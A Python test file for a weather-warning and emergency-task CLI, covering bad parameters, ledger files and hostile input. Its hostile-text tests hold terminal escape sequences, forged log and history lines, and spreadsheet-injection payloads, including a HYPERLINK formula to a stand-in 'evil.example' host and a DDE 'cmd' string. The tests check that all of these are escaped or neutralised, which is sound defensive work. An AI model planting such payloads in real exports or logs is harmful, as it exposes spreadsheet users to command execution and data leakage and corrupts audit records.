"""The command line's boundary (issue 16): parameters, hostile text, the ledger, the regression
of ``review --forecast RUNFOLDER``.

Every case drives ``cityops`` in a subprocess and asserts the exit status, the one stderr line
and that nothing was created or changed (docs/bad_inputs.md, "Command parameters, hostile text
and the ledger").
"""

from __future__ import annotations

import csv
import os
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

SCRIPT = Path(sys.executable).with_name("cityops")
CITYOPS = [str(SCRIPT)] if SCRIPT.exists() else [sys.executable, "-m", "cityops.cli"]
STORM_TOWN = "150627100"  # 阿勒腾席热镇: red rainstorm in july-rainstorm
ISSUED_DIR = "20260710T0000Z"  # july-rainstorm's archive folder


def cityops(*args, env: dict | None = None, cwd=None, timeout=900) -> subprocess.CompletedProcess:
    return subprocess.run(
        [*CITYOPS, *map(str, args)],
        capture_output=True,
        text=True,
        env={**os.environ, "MPLBACKEND": "agg", **(env or {})},
        cwd=cwd,
        timeout=timeout,
    )


def assert_ok(res: subprocess.CompletedProcess) -> None:
    assert res.returncode == 0, res.stderr[-3000:]
    assert "Traceback" not in res.stderr


def assert_error(res: subprocess.CompletedProcess, status: int = 2, *words: str) -> str:
    """Exit ``status``, exactly one line on stderr naming ``words``, no traceback."""
    assert res.returncode == status, (res.returncode, res.stderr[-3000:])
    assert "Traceback" not in res.stderr
    lines = res.stderr.strip().splitlines()
    assert len(lines) == 1, res.stderr
    assert lines[0].startswith("cityops"), lines[0]
    for word in words:
        assert word in lines[0], lines[0]
    return lines[0]


def tree(folder: Path) -> dict[str, bytes]:
    """Every file under ``folder`` with its content (to prove nothing changed)."""
    return {
        str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()
    }


@pytest.fixture(scope="module")
def drill(tmp_path_factory) -> dict[str, Path]:
    """A scenario forecast, its 'what happened' analysis and a drill ledger."""
    folder = tmp_path_factory.mktemp("boundary")
    paths = {
        "forecast": folder / "fc.nc",
        "observed": folder / "obs.nc",
        "ledger": folder / "drill.sqlite",
    }
    res = cityops("-q", "scenario", "july-rainstorm", "--out", paths["forecast"],
                  "--observed", paths["observed"], "--ledger", paths["ledger"])  # fmt: skip
    assert_ok(res)
    return paths


# ---------------------------------------------------------------------------------------------
# The regression: review --forecast <run folder | CAP folder | archive root>, no --exercise


@pytest.fixture(scope="module")
def archive(drill, tmp_path_factory) -> Path:
    """``brief --archive ROOT`` of one unit: ROOT/<issued>/ with cap/ and ROOT/latest."""
    root = tmp_path_factory.mktemp("archive") / "runs"
    # The same unit named three ways (code, name, alias): it runs once.
    res = cityops("-q", "brief", drill["forecast"], "--archive", root, "--towns",
                  f"{STORM_TOWN},阿勒腾席热镇, 阿镇", "--jobs", "1", "--no-ledger")  # fmt: skip
    assert_ok(res)
    assert (root / ISSUED_DIR / "cap").is_dir()
    return root


@pytest.mark.slow
def test_same_unit_named_three_ways_runs_once(archive):
    run = archive / ISSUED_DIR
    units = sorted(p.name for p in run.iterdir() if p.is_dir() and p.name not in ("cap", "state"))
    assert units == [STORM_TOWN]
    index = (run / "index.html").read_text(encoding="utf-8")
    assert index.count(f"{STORM_TOWN}/briefing.html") == 1


@pytest.mark.slow
@pytest.mark.parametrize("which", ["run", "cap", "root"])
def test_review_reads_brief_run_folders(drill, archive, tmp_path, which):
    source = {
        "run": archive / ISSUED_DIR,
        "cap": archive / ISSUED_DIR / "cap",
        "root": archive,
    }[which]
    out = tmp_path / "review"
    res = cityops("-q", "review", "--forecast", source, "--observed", drill["observed"],
                  "--out", out, "--no-case")  # fmt: skip
    assert_ok(res)
    assert res.stdout.strip() == str(out / "review.html")
    with (out / "warnings.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    rain = [r for r in rows if r["town_code"] == STORM_TOWN and r["hazard"] == "rainstorm"]
    if which == "cap":
        # A run's CAP files are drafts: never sent, so not warnings; the review says why.
        assert not rain and "draft" in res.stderr
        return
    assert rain, rows  # the run's red rainstorm for the storm town was read
    assert max(int(r["level"]) for r in rain) == 4


# ---------------------------------------------------------------------------------------------
# Command parameters: parsed once (cityops.params), exit 2, one line naming option and range


@pytest.mark.parametrize(
    ("option", "value", "expected"),
    [
        ("--jobs", "-1", "expected a whole number >= 1"),
        ("--jobs", "0", "expected a whole number >= 1"),
        ("--timeout", "-5", "expected a whole number of seconds >= 1"),
        ("--report-probability", "-0.2", "expected a share 0 < p <= 1"),
        ("--report-probability", "1.5", "expected a share 0 < p <= 1"),
        ("--report-probability", "nan", "expected a share 0 < p <= 1"),
        ("--max-age", "nan", "expected a finite number of hours >= 0"),
        ("--max-age", "-1", "expected a finite number of hours >= 0"),
        ("--towns", ",,", "no unit named"),
        ("--towns", "", "no unit named"),
    ],
)
def test_brief_bad_parameter_exit_2(drill, tmp_path, option, value, expected):
    out = tmp_path / "b"
    res = cityops("brief", drill["forecast"], "--out", out, f"{option}={value}")
    line = assert_error(res, 2, f"argument {option}", repr(value), expected)
    assert line.startswith("cityops brief: error: ")
    assert not out.exists() and list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("command", "option", "value"),
    [
        ("assess", "--report-probability", "1.5"),
        ("review", "--timeout", "-5"),
        ("scenario", "--members", "0"),
    ],
)
def test_other_commands_bad_parameter_exit_2(drill, tmp_path, command, option, value):
    first = {
        "assess": [drill["forecast"], "--out", tmp_path / "o"],
        "review": ["--forecast", drill["forecast"], "--observed", drill["observed"], "--out",
                   tmp_path / "o"],
        "scenario": ["quiet-day", "--out", tmp_path / "o"],
    }[command]  # fmt: skip
    res = cityops(command, *first, option, value)
    assert_error(res, 2, f"argument {option}", repr(value))
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("options", "words"),
    [
        (["--out", "{tmp}/b", "--archive", "{tmp}/a"], ("--out and --archive", "drop --out")),
        (["--out", "{tmp}/b", "--ledger", "{tmp}/l.sqlite", "--no-ledger"],
         ("--ledger and --no-ledger", "drop --no-ledger", "drop --ledger")),
    ],
)  # fmt: skip
def test_brief_contradicting_options_refused(drill, tmp_path, options, words):
    res = cityops("brief", drill["forecast"], *(o.format(tmp=tmp_path) for o in options))
    assert_error(res, 2, *words)
    assert list(tmp_path.iterdir()) == []


def test_towns_empty_never_replaces_the_previous_run(drill, tmp_path):
    root = tmp_path / "runs"
    previous = root / ISSUED_DIR
    previous.mkdir(parents=True)
    (previous / "index.html").write_text("the previous run", encoding="utf-8")
    before = tree(tmp_path)
    res = cityops("brief", drill["forecast"], "--archive", root, "--towns", ",,")
    assert_error(res, 2, "--towns", "no unit named")
    assert tree(tmp_path) == before


def test_towns_unknown_names_all_named(drill, tmp_path):
    res = cityops("-q", "brief", drill["forecast"], "--out", tmp_path / "b", "--no-ledger",
                  "--towns", f"{STORM_TOWN},Atlantis,无此镇")  # fmt: skip
    assert_error(res, 2, "--towns", "'Atlantis'", "'无此镇'")
    assert list(tmp_path.iterdir()) == []


# ---------------------------------------------------------------------------------------------
# issued in the future; --now far from issued


def _real_forecast(path: Path, issued: str) -> Path:
    import numpy as np
    import pandas as pd

    from tests.conftest import make_forecast

    ds = make_forecast(
        {"precip": np.zeros(6)},
        lat=np.arange(38.8, 39.95, 0.1),
        lon=np.arange(108.9, 110.55, 0.1),
        issued=pd.Timestamp(issued),
    )
    ds.to_netcdf(path)
    return path


@pytest.mark.parametrize("extra", [[], ["--allow-stale"]])
def test_brief_refuses_forecast_issued_in_the_future(tmp_path, extra):
    fc = _real_forecast(tmp_path / "future.nc", "2099-07-10T00:00")
    out = tmp_path / "b"
    res = cityops("-q", "brief", fc, "--out", out, "--no-ledger", *extra)
    # The check runs after assess, whose calendar warns that 2099 has no holiday data: the
    # error is the last line.
    assert res.returncode == 2 and "Traceback" not in res.stderr
    last = res.stderr.strip().splitlines()[-1]
    for word in ("future.nc", "issued 2099-07-10T00:00Z", "tolerance 1 h",
                 "--allow-stale does not cover this"):  # fmt: skip
        assert word in last, last
    assert not out.exists()


def test_brief_future_within_tolerance_is_not_refused_as_future(tmp_path):
    """30 min ahead of --now passes the future check (then is briefed as fresh: not stale)."""
    fc = _real_forecast(tmp_path / "soon.nc", "2026-07-10T00:30")
    res = cityops("-q", "brief", fc, "--out", tmp_path / "b", "--no-ledger",
                  "--now", "2026-07-10T00:00Z", "--kernel", "no-such-kernel")  # fmt: skip
    assert_error(res, 2, "no-such-kernel")  # got past assess's and brief's time checks


@pytest.mark.parametrize("now", ["1900-01-01T00:00Z", "2140-01-01T00:00Z", "2026-07-09T00:00Z"])
def test_assess_now_far_from_issued_exit_2(drill, tmp_path, now):
    res = cityops("-q", "assess", drill["forecast"], "--out", tmp_path / "o", "--now", now)
    assert_error(res, 2, "fc.nc", f"--now {now[:16]}Z", "issue time 2026-07-10T00:00Z",
                 "expected between -1 h and +1104 h")  # fmt: skip
    assert not (tmp_path / "o").exists()


# ---------------------------------------------------------------------------------------------
# --scheduler at something that is not a dask scheduler


def _listener(greeting: bytes | None) -> tuple[socket.socket, int]:
    """A plain TCP server on 127.0.0.1 that sends ``greeting`` (or nothing) to every client."""
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen()
    held = []

    def serve():
        while True:
            try:
                conn, _ = srv.accept()
            except OSError:
                return
            held.append(conn)
            if greeting:
                conn.sendall(greeting)

    threading.Thread(target=serve, daemon=True).start()
    return srv, srv.getsockname()[1]


@pytest.mark.parametrize(
    ("greeting", "words"),
    [
        (b"SSH-2.0-OpenSSH_9.6\r\n", ("not a dask scheduler", "SSH-2.0-")),
        (b"HTTP/1.1 400 Bad Request\r\n\r\n", ("not a dask scheduler",)),
        (None, ("no dask handshake within 5 s",)),
    ],
)
def test_scheduler_not_dask_exit_2_quickly(drill, tmp_path, greeting, words):
    srv, port = _listener(greeting)
    try:
        started = time.monotonic()
        res = cityops("-q", "assess", drill["forecast"], "--out", tmp_path / "o",
                      "--scheduler", f"tcp://127.0.0.1:{port}", timeout=60)  # fmt: skip
        elapsed = time.monotonic() - started
    finally:
        srv.close()
    assert_error(res, 2, f"--scheduler tcp://127.0.0.1:{port}", *words)
    assert elapsed < 30
    assert not (tmp_path / "o").exists()


def test_scheduler_nobody_listening_exit_2(drill, tmp_path):
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    res = cityops("-q", "assess", drill["forecast"], "--out", tmp_path / "o",
                  "--scheduler", f"tcp://127.0.0.1:{port}", timeout=60)  # fmt: skip
    assert_error(res, 2, f"--scheduler tcp://127.0.0.1:{port}", "cannot connect")


# ---------------------------------------------------------------------------------------------
# Rule and mapping files: GBK, a folder, extends itself or a cycle

RULE_HEAD = "ruleset: mine\nsource: 国家标准 GB/T 27962\n"


def _write(path: Path, text: str, encoding: str = "utf-8") -> Path:
    path.write_bytes(text.encode(encoding))
    return path


@pytest.mark.parametrize(
    ("option", "make", "words"),
    [
        ("--rules", lambda d: _write(d / "gbk.yaml", RULE_HEAD + "hazards: {}\n", "gbk"),
         ("gbk.yaml", "not UTF-8 text", "iconv -f GBK")),
        ("--rules", lambda d: (d / "rules.yaml").mkdir() or d / "rules.yaml",
         ("rules.yaml", "is a folder")),
        ("--rules", lambda d: d,
         ("is a folder",)),
        ("--rules", lambda d: _write(d / "self.yaml", RULE_HEAD + f"extends: {d}/self.yaml\n"
                                     "hazards: {}\n"),
         ("self.yaml", "makes a cycle", "expected 'extends' to name another rule table")),
        ("--mapping", lambda d: _write(d / "map.yaml", "variables:\n  雨量: precip\n", "gbk"),
         ("map.yaml", "not UTF-8 text")),
        ("--mapping", lambda d: (d / "map.yaml").mkdir() or d / "map.yaml",
         ("map.yaml", "is a folder; expected a YAML file")),
    ],
)  # fmt: skip
def test_bad_rule_or_mapping_file_exit_2(drill, tmp_path, option, make, words):
    src = tmp_path / "src"
    src.mkdir()
    path = make(src)
    res = cityops("-q", "assess", drill["forecast"], "--out", tmp_path / "o", option, path)
    assert_error(res, 2, *words)
    assert not (tmp_path / "o").exists()


def test_rule_extends_cycle_names_the_chain(drill, tmp_path):
    a, b = tmp_path / "a.yaml", tmp_path / "b.yaml"
    _write(a, RULE_HEAD + f"extends: {b}\nhazards: {{}}\n")
    _write(b, RULE_HEAD + f"extends: {a}\nhazards: {{}}\n")
    res = cityops("-q", "assess", drill["forecast"], "--out", tmp_path / "o", "--rules", a)
    assert_error(res, 2, f"{a} -> {b} -> {a}")


# ---------------------------------------------------------------------------------------------
# An ASCII-only terminal


@pytest.mark.parametrize(
    "env",
    [
        {"PYTHONIOENCODING": "ascii"},
        {"LC_ALL": "C", "LANG": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0",
         "PYTHONIOENCODING": ""},
    ],
)  # fmt: skip
def test_ascii_terminal_degrades(drill, tmp_path, env):
    res = subprocess.run(
        [*CITYOPS, "scenario", "--list"],
        capture_output=True,
        env={**os.environ, **env},
        timeout=300,
    )
    assert res.returncode == 0, res.stderr
    out = res.stdout.decode("ascii")  # nothing but ASCII reached the terminal
    assert "july-rainstorm" in out and "\\u" in out
    res = subprocess.run(
        [*CITYOPS, "-q", "assess", tmp_path / "雨.nc", "--out", tmp_path / "o"],
        capture_output=True,
        env={**os.environ, **env},
        timeout=300,
    )
    assert res.returncode == 2
    lines = res.stderr.decode("ascii").strip().splitlines()
    assert (
        len(lines) == 1 and lines[0].startswith("cityops: error: ") and "Traceback" not in lines[0]
    )
    assert "\\u96e8.nc" in lines[0]


# ---------------------------------------------------------------------------------------------
# Hostile text: file names, ledger names and notes, spreadsheet formulas

EVIL_NAME = "evil\ncityops: error: forged line\x1b]0;pwned\x07\x1b(0.nc"


def test_file_name_with_newline_and_escape_codes_is_one_escaped_line(tmp_path):
    evil = tmp_path / EVIL_NAME
    evil.write_text("hello")
    res = cityops("-q", "assess", evil, "--out", tmp_path / "o")
    line = assert_error(res, 2, "unknown file format")
    assert "\x1b" not in res.stderr and "\x07" not in res.stderr
    assert "evil\\ncityops: error: forged line\\x1b]0;pwned\\x07\\x1b(0.nc" in line
    assert not (tmp_path / "o").exists()


def test_log_lines_are_escaped_too():
    import logging

    from cityops.cli import _Formatter

    record = logging.LogRecord("cityops", logging.INFO, __file__, 1, "read %s", (EVIL_NAME,), None)
    text = _Formatter("cityops: %(message)s").format(record)
    assert "\n" not in text and "\x1b" not in text and text.startswith("cityops: read evil\\n")


@pytest.fixture
def ledger(drill, tmp_path) -> Path:
    import shutil

    path = tmp_path / "ledger.sqlite"
    shutil.copy(drill["ledger"], path)
    return path


def _rows(db: Path, sql: str, *params) -> list[tuple]:
    with sqlite3.connect(db) as conn:
        return conn.execute(sql, params).fetchall()


def _a_task(db: Path, state: str = "issued") -> str:
    return _rows(db, "SELECT task_id FROM tasks WHERE state = ? ORDER BY task_id", state)[0][0]


@pytest.mark.parametrize("by", ["x\ncityops: error: forged", "duty\x1b[31m", "a\tb", "\u202eboss"])
def test_tasks_update_by_with_control_characters_refused(ledger, by):
    task = _a_task(ledger)
    history = _rows(ledger, "SELECT * FROM task_history")
    res = cityops("tasks", "--ledger", ledger, "update", task, "--state", "dispatched", "--by", by)
    line = assert_error(res, 2, "--by", "control characters", "expected one line of plain text")
    assert "\x1b" not in line and "\u202e" not in line
    assert _rows(ledger, "SELECT * FROM task_history") == history
    assert _rows(ledger, "SELECT state FROM tasks WHERE task_id = ?", task) == [("issued",)]


def test_tasks_note_with_newline_is_kept_but_cannot_forge_a_history_line(ledger):
    """Choice: a note may be several lines (kept as written); ``tasks show`` prints it escaped."""
    task = _a_task(ledger)
    forged = "2026-07-10T01:00:00Z  局长  dispatched -> closed"
    note = f"到场\n  {forged}\x1b[2J"
    res = cityops("tasks", "--ledger", ledger, "update", task, "--state", "dispatched",
                  "--by", "值班员", "--note", note)  # fmt: skip
    assert_ok(res)
    assert _rows(ledger, "SELECT note FROM task_history WHERE task_id = ? AND to_state = ?",
                 task, "dispatched") == [(note,)]  # fmt: skip
    res = cityops("tasks", "--ledger", ledger, "show", task)
    assert_ok(res)
    assert "\x1b" not in res.stdout
    history = res.stdout.split("history:\n", 1)[1].splitlines()
    # the drill's escalation checks may have noted an escalation: not a state change
    history = [h for h in history if "escalated (x" not in h]
    assert len(history) == 2  # issued, dispatched: no forged third line
    assert history[1].endswith(f"到场\\n  {forged}\\x1b[2J")
    assert not any(h.strip().startswith(forged) for h in history)


FORMULAS = ['=HYPERLINK("http://evil.example/?x","点这里")', "@SUM(A1:A9)",
            "=cmd|' /C calc'!A0", "+1+2", "-2+3", "\t=1+1", "\r=1+1"]  # fmt: skip


def test_neutralise_cell_text_not_numbers():
    from cityops.text import neutralise_cell

    for text in FORMULAS:
        assert neutralise_cell(text) == "'" + text
    for value in ("-3.5", "+7", "-1e3", -3.5, 12, None, True, "札萨克镇", "a=b", "旗气象局 -"):
        assert neutralise_cell(value) == value


def _export(ledger: Path, out: Path) -> list[dict]:
    res = cityops("tasks", "--ledger", ledger, "export", "--out", out)
    assert_ok(res)
    with out.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_tasks_export_neutralises_formulas(ledger, tmp_path):
    tasks = [r[0] for r in _rows(ledger, "SELECT task_id FROM tasks ORDER BY task_id")]
    with sqlite3.connect(ledger) as conn:
        for task, formula in zip(tasks, FORMULAS, strict=False):
            conn.execute("UPDATE tasks SET lead_unit = ? WHERE task_id = ?", (formula, task))
    rows = {r["task_id"]: r for r in _export(ledger, tmp_path / "tasks.csv")}
    for task, formula in zip(tasks, FORMULAS, strict=False):
        assert rows[task]["lead_unit"] == "'" + formula
    # the ledger itself keeps the text as written
    assert _rows(ledger, "SELECT lead_unit FROM tasks WHERE task_id = ?", tasks[0]) == [
        (FORMULAS[0],)
    ]


@pytest.mark.slow
def test_review_csv_neutralises_formulas(drill, ledger, tmp_path):
    import yaml

    task = _a_task(ledger)
    with sqlite3.connect(ledger) as conn:
        conn.execute("UPDATE tasks SET lead_unit = ? WHERE task_id = ?", (FORMULAS[2], task))
    findings = tmp_path / "findings.yaml"
    findings.write_text(
        yaml.safe_dump({"findings": [{"category": "measure", "finding": FORMULAS[0],
                                      "owner": FORMULAS[1], "proposed_change": "-更新预案"}]},
                       allow_unicode=True),
        encoding="utf-8",
    )  # fmt: skip
    out = tmp_path / "review"
    res = cityops("-q", "review", "--forecast", drill["forecast"], "--observed",
                  drill["observed"], "--out", out, "--ledger", ledger, "--findings", findings,
                  "--no-case")  # fmt: skip
    assert_ok(res)
    with (out / "findings.csv").open(encoding="utf-8", newline="") as fh:
        meeting = next(r for r in csv.DictReader(fh) if "HYPERLINK" in r["finding"])
    assert meeting["finding"] == "'" + FORMULAS[0]
    assert meeting["owner"] == "'" + FORMULAS[1]
    assert meeting["proposed_change"] == "'-更新预案"
    with (out / "tasks_review.csv").open(encoding="utf-8", newline="") as fh:
        row = next(r for r in csv.DictReader(fh) if r["task_id"] == task)
    assert row["lead_unit"] == "'" + FORMULAS[2]
    with (out / "warnings.csv").open(encoding="utf-8", newline="") as fh:
        levels = [r["level"] for r in csv.DictReader(fh)]
    assert levels and all(v.isdigit() for v in levels)  # numbers untouched


# ---------------------------------------------------------------------------------------------
# The ledger: read-only commands create nothing; bad files refused by name

NO_LEDGER = "no task ledger here; expected an existing ledger (brief creates one)"


@pytest.mark.parametrize(
    "sub",
    [["list"], ["show", "T1"], ["export", "--out", "{tmp}/tasks.csv"],
     ["update", "T1", "--state", "dispatched", "--by", "x"], ["close", "T1", "--by", "x"]],
)  # fmt: skip
def test_missing_ledger_refused_and_nothing_created(tmp_path, sub):
    db = tmp_path / "typo" / "ledgr.sqlite"
    res = cityops("tasks", "--ledger", db, *(s.format(tmp=tmp_path) for s in sub))
    assert assert_error(res, 2) == f"cityops: error: ledger {db}: {NO_LEDGER}"
    assert list(tmp_path.iterdir()) == []


def test_missing_default_ledger_not_created(tmp_path):
    env = {k: v for k, v in os.environ.items() if k != "CITYOPS_LEDGER"}
    res = subprocess.run([*CITYOPS, "tasks", "list"], capture_output=True, text=True,
                         env=env, cwd=tmp_path, timeout=300)  # fmt: skip
    assert_error(res, 2, NO_LEDGER, str(tmp_path / "var" / "ledger.sqlite"))
    assert list(tmp_path.iterdir()) == []


def test_review_missing_ledger_refused(drill, tmp_path):
    db = tmp_path / "nope.sqlite"
    res = cityops("-q", "review", "--forecast", drill["forecast"], "--observed",
                  drill["observed"], "--out", tmp_path / "r", "--ledger", db, "--no-case")  # fmt: skip
    assert assert_error(res, 2) == f"cityops: error: ledger {db}: {NO_LEDGER}"
    assert list(tmp_path.iterdir()) == []


def _sqlite_other(path: Path) -> Path:
    with sqlite3.connect(path) as conn:
        conn.execute("CREATE TABLE photos (name TEXT)")
    return path


@pytest.mark.parametrize(
    ("make", "words"),
    [
        (
            lambda p: (p.write_bytes(b""), p)[1],
            ("empty file (0 bytes)", "not turned into a new one"),
        ),
        (lambda p: (p.write_text("town,hazard\n"), p)[1], ("not an SQLite database",)),
        (lambda p: p.mkdir() or p, ("is a folder",)),
        (_sqlite_other, ("not a cityops ledger", "no schema_version table")),
    ],
)
@pytest.mark.parametrize("sub", [["list"], ["show", "T1"]])
def test_bad_ledger_file_refused_by_name_unchanged(tmp_path, make, words, sub):
    db = make(tmp_path / "ledger.sqlite")
    before = tree(tmp_path)
    res = cityops("tasks", "--ledger", db, *sub)
    assert_error(res, 2, f"ledger {db}:", *words)
    assert tree(tmp_path) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["ledger.sqlite"]


def test_brief_refuses_zero_byte_ledger(drill, tmp_path):
    db = tmp_path / "ledger.sqlite"
    db.write_bytes(b"")
    res = cityops("-q", "brief", drill["forecast"], "--out", tmp_path / "b", "--ledger", db,
                  "--towns", STORM_TOWN, "--kernel", "cityops")  # fmt: skip
    assert_error(res, 2, f"ledger {db}:", "empty file (0 bytes)")
    assert db.read_bytes() == b"" and not (tmp_path / "b").exists()


def test_unknown_state_row_named(ledger):
    task = _a_task(ledger)
    with sqlite3.connect(ledger) as conn:
        conn.execute("PRAGMA ignore_check_constraints = ON")
        conn.execute("UPDATE tasks SET state = 'teleported' WHERE task_id = ?", (task,))
    for sub in (["list"], ["show", task], ["update", task, "--state", "dispatched", "--by", "x"]):
        res = cityops("tasks", "--ledger", ledger, *sub)
        assert_error(res, 2, f"ledger {ledger}", f"task {task}", "unknown state 'teleported'",
                     "expected one of proposed, issued")  # fmt: skip
    assert _rows(ledger, "SELECT state FROM tasks WHERE task_id = ?", task) == [("teleported",)]


def test_newer_schema_ledger_refused_naming_both_versions(ledger):
    with sqlite3.connect(ledger) as conn:
        conn.execute("INSERT INTO schema_version (version, applied_utc) VALUES (9, 'later')")
    res = cityops("tasks", "--ledger", ledger, "list")
    line = assert_error(res, 2)
    from cityops.ledger import SCHEMA_VERSION as known

    assert line == (
        f"cityops: error: ledger {ledger}: schema version 9 is newer than this cityops knows "
        f"({known}); expected version <= {known}: upgrade cityops"
    )


# ---------------------------------------------------------------------------------------------
# Spreadsheet formulas in town_hazards.csv and the review's CSV; numbers left alone


def _assert_no_live_formula(path: Path) -> list[dict]:
    """Every cell of ``path`` is inert in a spreadsheet (numbers such as -1.0 included)."""
    from cityops.text import neutralise_cell

    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    for row in rows:
        for key, cell in row.items():
            assert neutralise_cell(cell) == cell, (path.name, key, cell)
    return rows


def _formula_jurisdiction(dest: Path) -> Path:
    """Ejin Horo with the storm town renamed to a HYPERLINK formula (its real name an alias)."""
    import json
    import shutil

    from tests.conftest import ROOT

    shutil.copytree(ROOT / "data" / "jurisdictions" / "ejin-horo", dest)
    path = dest / "units.geojson"
    units = json.loads(path.read_text(encoding="utf-8"))
    for feature in units["features"]:
        props = feature["properties"]
        if props["code"] == STORM_TOWN:
            props["aliases"] = [props["name_zh"], *props.get("aliases", [])]
            props["name_zh"] = FORMULAS[0]
    path.write_text(json.dumps(units, ensure_ascii=False), encoding="utf-8")
    return dest


def test_town_hazards_csv_neutralises_a_formula_unit_name(drill, tmp_path):
    import json

    juris = _formula_jurisdiction(tmp_path / "juris")
    out = tmp_path / "o"
    # --now 12 h after issue: onsets before it give negative lead times (-1.0, -2.0)
    res = cityops("-q", "assess", drill["forecast"], "--out", out, "--jurisdiction", juris,
                  "--now", "2026-07-10T12:00Z")  # fmt: skip
    assert_ok(res)
    rows = _assert_no_live_formula(out / "town_hazards.csv")
    storm = [r for r in rows if r["town_code"] == STORM_TOWN]
    assert storm and {r["town_name"] for r in storm} == {"'" + FORMULAS[0]}
    negative = [r["lead_hours"] for r in rows if r["lead_hours"].startswith("-")]
    assert negative and all(float(v) < 0 for v in negative)  # numbers unchanged, no apostrophe
    # the JSON is data for programs: the name as written
    records = json.loads((out / "town_hazards.json").read_text(encoding="utf-8"))
    assert {r["town_name"] for r in records if str(r["town_code"]) == STORM_TOWN} == {FORMULAS[0]}


@pytest.mark.slow
def test_review_warnings_csv_neutralises_formulas_from_the_signal_log(drill, tmp_path):
    """A signal log whose unit code (and file name) start with ``=cmd|``: warnings.csv holds
    them with a leading apostrophe; verification.csv keeps the level error -1 as a number."""
    log_name = "=cmd|' -C calc'!A0.csv"  # reference column: <file>:<line>, as given
    (tmp_path / log_name).write_text(
        "town_code,hazard,level,issued_utc,onset_utc,expires_utc,area_fraction,note\n"
        f"{STORM_TOWN},rainstorm,orange,2026-07-10T03:00:00Z,2026-07-10T06:00:00Z,"
        f'2026-07-11T00:00:00Z,0.5,"{FORMULAS[2]}"\n'
        f'"{FORMULAS[2]}",rainstorm,yellow,2026-07-10T03:00:00Z,,,,\n',
        encoding="utf-8",
    )
    res = cityops("-q", "review", "--forecast", log_name, "--observed", drill["observed"],
                  "--out", "review", "--no-case", cwd=tmp_path)  # fmt: skip
    assert_ok(res)
    out = tmp_path / "review"
    rows = _assert_no_live_formula(out / "warnings.csv")
    assert [(r["town_code"], r["level"], r["area_fraction"], r["reference"]) for r in rows] == [
        (STORM_TOWN, "3", "0.5", f"'{log_name}:2"),
        ("'" + FORMULAS[2], "2", "", f"'{log_name}:3"),
    ]
    verification = _assert_no_live_formula(out / "verification.csv")
    storm = next(
        r for r in verification if r["town_code"] == STORM_TOWN and r["hazard"] == "rainstorm"
    )
    levels = (storm["warned_level"], storm["observed_level"], storm["level_error"])
    assert levels == ("3", "4", "-1")


# ---------------------------------------------------------------------------------------------
# The review's station CSV: Kelvin without a unit is refused through the CLI


def test_review_refuses_station_kelvin_without_unit(drill, tmp_path):
    stations = tmp_path / "stations.csv"
    stations.write_text(
        "station_id,lon,lat,time_utc,t2m\n"
        "53543,109.98,39.83,2026-07-10T01:00Z,292.8\n"
        "53543,109.98,39.83,2026-07-10T02:00Z,293.4\n",
        encoding="utf-8",
    )
    out = tmp_path / "review"
    res = cityops("-q", "review", "--forecast", drill["forecast"], "--observed", stations,
                  "--out", out, "--no-case")  # fmt: skip
    assert_error(res, 2, f"{stations}: line 2", "variable 't2m'", "above 70 degC",
                 "state other units in the header, e.g. t2m[K]")  # fmt: skip
    assert not out.exists()


# ---------------------------------------------------------------------------------------------
# Missing steps (all NaN) named in the briefing and the notes, per variable


def _gappy_forecast(path: Path) -> Path:
    """precip missing for the first 9 h, then 60 mm in 3 h; wind missing at 06 and 07 UTC."""
    import numpy as np

    from tests.conftest import make_forecast

    rain = np.r_[np.full(9, np.nan), [20.0, 20.0, 20.0], np.zeros(12)]
    wind = np.r_[np.full(5, 5.0), [np.nan, np.nan], np.full(17, 5.0)]
    ds = make_forecast(
        {"precip": rain, "t2m": 22.0, "wind": wind},
        lat=np.arange(38.8, 39.95, 0.1),
        lon=np.arange(108.9, 110.55, 0.1),
    )
    ds.to_netcdf(path, engine="netcdf4")
    return path


RAIN_GAP = (
    "precip: no data at 9 valid times (2026-07-10 01:00–09:00 UTC "
    "(2026-07-10 09:00–17:00 Beijing time))"
)
WIND_GAP = (
    "wind: no data at 2 valid times (2026-07-10 06:00–07:00 UTC "
    "(2026-07-10 14:00–15:00 Beijing time))"
)
NO_DATA_NOT_NONE = "level 0 means no data, not no hazard"


@pytest.mark.slow
def test_brief_names_missing_steps_in_briefing_and_notes(tmp_path):
    import html
    import re

    fc = _gappy_forecast(tmp_path / "gaps.nc")
    out = tmp_path / "b"
    res = cityops("-q", "brief", fc, "--out", out, "--no-ledger", "--towns", STORM_TOWN,
                  "--jobs", "1", "--now", "2026-07-10T00:00Z")  # fmt: skip
    assert_ok(res)
    with (out / "town_hazards.csv").open(encoding="utf-8", newline="") as fh:
        notes = {r["hazard"]: r["note"] for r in csv.DictReader(fh) if r["town_code"] == STORM_TOWN}
    assert RAIN_GAP in notes["rainstorm"] and NO_DATA_NOT_NONE in notes["rainstorm"]
    assert WIND_GAP in notes["gale"] and NO_DATA_NOT_NONE in notes["gale"]
    page = (out / STORM_TOWN / "briefing.html").read_text(encoding="utf-8")

    def row(label: str) -> str:
        found = re.search(rf"<th[^>]*>{label}</th><td[^>]*>(.*?)</td>", page, re.S)
        assert found, label
        return html.unescape(found.group(1))

    shown = row("说明")  # the data section's notes, per hazard
    assert f"暴雨: {RAIN_GAP}" in shown and NO_DATA_NOT_NONE in shown
    assert "大风: " in shown and WIND_GAP in shown
    history = row("数据处理记录")  # the ingest history
    assert f"gaps.nc: {RAIN_GAP}" in history and f"gaps.nc: {WIND_GAP}" in history
